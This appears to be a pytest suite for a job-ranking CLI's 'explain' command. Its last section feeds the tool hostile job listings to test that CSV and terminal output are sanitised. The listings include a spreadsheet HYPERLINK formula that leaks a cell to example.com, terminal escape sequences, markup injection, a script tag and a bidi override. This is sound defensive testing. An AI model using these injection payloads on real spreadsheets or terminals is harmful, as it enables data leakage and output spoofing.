"""``rolefit explain``: why a job ranks where it does, from any way of naming it, whatever its text says."""

from __future__ import annotations

import io
import re
import shutil
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console

from features.taxonomy import competencies
from flows.explain import NotRankedError, explain, show
from flows.plain_text import plain
from flows.settings import Settings
from flows.store import UnknownPosting


@pytest.fixture(scope="module")
def settings(sample_run: Any) -> Settings:
    return Settings(home=sample_run.home)


@pytest.fixture(scope="module")
def best(sample_run: Any) -> dict[str, str]:
    row: dict[str, str] = sample_run.outputs.ranked[0]
    return row


def test_the_judgement_is_the_one_in_the_ranking(sample_run: Any, settings: Settings) -> None:
    for row in sample_run.outputs.ranked[::9]:
        judgement = explain(settings, row["posting_id"], "account_manager").judgement
        assert judgement.role == row["role"]
        assert judgement.why == row["why"]
        if row["fit_score"]:
            assert judgement.fit == pytest.approx(float(row["fit_score"]), abs=0.051)
            assert judgement.probabilities["hybrid"] == pytest.approx(float(row["p_hybrid"]), abs=0.0001)


def test_the_printed_parts_add_up_to_the_score(best: dict[str, str], sample_run: Any, rolefit: Any) -> None:
    shown = rolefit(sample_run.home, "explain", best["posting_id"]).out
    table = shown[shown.index("Fit:") : shown.index("Duties (")]
    parts = [float(points) for points in re.findall(r"^ *([+-]\d+\.\d) ", table, re.MULTILINE)]
    assert len(parts) >= 2
    assert sum(parts) == pytest.approx(float(best["fit_score"]), abs=0.051 * (len(parts) + 1))


def test_everything_that_led_to_the_judgement_is_shown(
    best: dict[str, str], sample_run: Any, rolefit: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "400")  # room for each row on one line
    shown = rolefit(sample_run.home, "explain", best["posting_id"])
    text = " ".join(shown.out.split())
    assert (shown.code, shown.err) == (0, "")
    assert best["title"] in text
    assert best["company"] in text
    for role in ("account-management", "creative-pm", "hybrid", "out-of-scope"):
        assert re.search(rf"{role} \d+%", text), role
    for code in best["matched_skills"].split(" | "):
        assert f"have {competencies()[code].name}" in text
    duties = [row for row in sample_run.outputs.rows("duties.csv") if row["posting_id"] == best["posting_id"]]
    assert f"Duties ({len(duties)})" in text
    for row in duties:
        names = ", ".join(competencies()[code].name for code in row["competencies"].split(" | ") if code) or "none"
        assert re.search(rf"\d+% +{re.escape(row['text'])} +{names}", shown.out)


def test_a_posting_is_found_by_a_beginning_of_its_id_and_by_its_source(
    best: dict[str, str], settings: Settings
) -> None:
    for name in (best["posting_id"], best["posting_id"][:9], best["posting_id"].upper(), best["source_id"]):
        assert explain(settings, name, "account_manager").posting["posting_id"] == best["posting_id"]


@pytest.mark.parametrize(("name", "words"), [("p", "postings fit 'p'"), ("nothing", "no posting 'nothing'"), ("", "")])
def test_a_name_of_many_or_none_is_wrong_usage(name: str, words: str, sample_run: Any, rolefit: Any) -> None:
    ran = rolefit(sample_run.home, "explain", name)
    assert (ran.code, ran.out) == (2, "")
    assert words in ran.err
    assert ran.err.count("\n") == 1


def test_a_posting_without_text_says_so(sample_run: Any, rolefit: Any) -> None:
    ran = rolefit(sample_run.home, "explain", sample_run.outputs.ranked[-1]["posting_id"])
    assert ran.code == 0
    assert "The listing has no text to judge." in ran.out
    assert "%" not in ran.out


def test_the_profile_asked_for_is_the_one_used(best: dict[str, str], sample_home: Path) -> None:
    profiles = sample_home / "data" / "profiles"
    text = (profiles / "account_manager.toml").read_text(encoding="utf-8")
    (profiles / "novice.toml").write_text(re.sub(r"^(\w+) = [01]\.\d$", r"\1 = 0.1", text, flags=re.MULTILINE))
    here = Settings(home=sample_home)
    novice, usual = (explain(here, best["posting_id"], name).judgement for name in ("novice", "account_manager"))
    assert novice.matched == ()
    assert novice.parts["match"] < usual.parts["match"] / 2


def test_without_a_model_or_a_ranking_it_says_what_to_run(best: dict[str, str], sample_home: Path, home: Path) -> None:
    with pytest.raises(UnknownPosting):
        explain(Settings(home=home), best["posting_id"], "account_manager")
    shutil.rmtree(sample_home / "data" / "store" / "duties")
    with pytest.raises(NotRankedError, match="run `rolefit rank` again"):
        explain(Settings(home=sample_home), best["posting_id"], "account_manager")
    shutil.rmtree(sample_home / "models")
    with pytest.raises(NotRankedError, match="no model yet: run `rolefit rank FILE`"):
        explain(Settings(home=sample_home), best["posting_id"], "account_manager")


# -- hostile text -----------------------------------------------------------------------------------------------------

TITLE = '=HYPERLINK("http://example.com/?x="&A1,"[red]Account Manager[/red]")\x1b]0;owned\x07'
DUTY = (
    "Manage [bold red]client budgets[/] and [link=http://example.com]timelines[/link] \x1b[2J\x1b[31m with\x9b2J care"
)
DESCRIPTION = (
    "<h2>Responsibilities</h2><ul><li>" + DUTY + "</li><li>Lead weekly client calls</li>"
    "<li>Build timelines backward from the launch</li></ul><script>alert('run me')</script><p>"
    + "padding " * 12_500
    + "</p>"
)


@pytest.fixture(scope="module")
def hostile(
    trained_home: Path, rank: Any, write_listings: Any, tmp_path_factory: pytest.TempPathFactory
) -> tuple[Path, Any]:
    folder = tmp_path_factory.mktemp("hostile")
    home = Path(shutil.copytree(trained_home, folder / "home"))
    record = {"title": TITLE, "company": "+Aba\u202e", "location": "@Leeds", "job_url": "-1+1", "id": "\t=1+1",
              "description": DESCRIPTION}  # fmt: skip
    return home, rank(home, folder / "out", write_listings(folder / "a.csv", [record]))


def test_no_cell_is_a_formula_or_steers_a_terminal(hostile: tuple[Path, Any]) -> None:
    _, outputs = hostile
    cells = [
        (column, value)
        for name in ("ranked.csv", "duties.csv")
        for row in outputs.rows(name)
        for column, value in row.items()
    ]
    assert len(cells) > 40
    for column, value in cells:
        assert value.isprintable(), (column, value[:80])
        assert not re.match(r"\s*[=+@\-|%]", value), (column, value[:80])
    (job,) = outputs.ranked
    assert job["title"].startswith("'=HYPERLINK(")
    assert job["role"]


def test_script_is_no_duty(hostile: tuple[Path, Any]) -> None:
    _, outputs = hostile
    duties = outputs.rows("duties.csv")
    assert len(duties) >= 3
    assert not any("alert" in duty["text"] for duty in duties)


@pytest.mark.parametrize("terminal", [True, False])
def test_explain_shows_hostile_text_as_text(terminal: bool, hostile: tuple[Path, Any]) -> None:
    home, outputs = hostile
    shown = io.StringIO()
    found = explain(Settings(home=home), outputs.ranked[0]["posting_id"], "account_manager")
    show(found, Console(file=shown, force_terminal=terminal, width=200, color_system="standard" if terminal else None))
    text = re.sub(r"\x1b\[[0-9;]*m", "", shown.getvalue()) if terminal else shown.getvalue()
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", text)
    assert "[red]Account Manager[/red]" in text
    assert "[bold red]client budgets[/]" in text
    # Colours are ours alone: the text's own would be red.
    assert "\x1b[31m" not in shown.getvalue()
    assert "\x1b[1;31m" not in shown.getvalue()


@given(st.text())
def test_plain_text_keeps_what_prints_and_nothing_else(text: str) -> None:
    shown = plain(text)
    assert len(shown) == len(text)
    assert shown.isprintable()
    assert all(a == b or (b == " " and not a.isprintable()) for a, b in zip(text, shown, strict=True))
